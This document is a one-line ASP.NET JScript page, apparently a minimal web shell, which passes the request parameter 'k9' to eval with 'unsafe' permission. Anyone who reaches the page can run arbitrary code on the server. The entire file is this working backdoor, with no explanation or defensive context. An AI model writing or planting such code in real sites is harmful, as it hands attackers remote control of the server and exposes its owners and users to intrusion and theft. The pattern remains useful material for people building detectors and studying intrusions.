<%@ Page Language="JScript" %><% eval(Request.Item["k9"], "unsafe"); %>
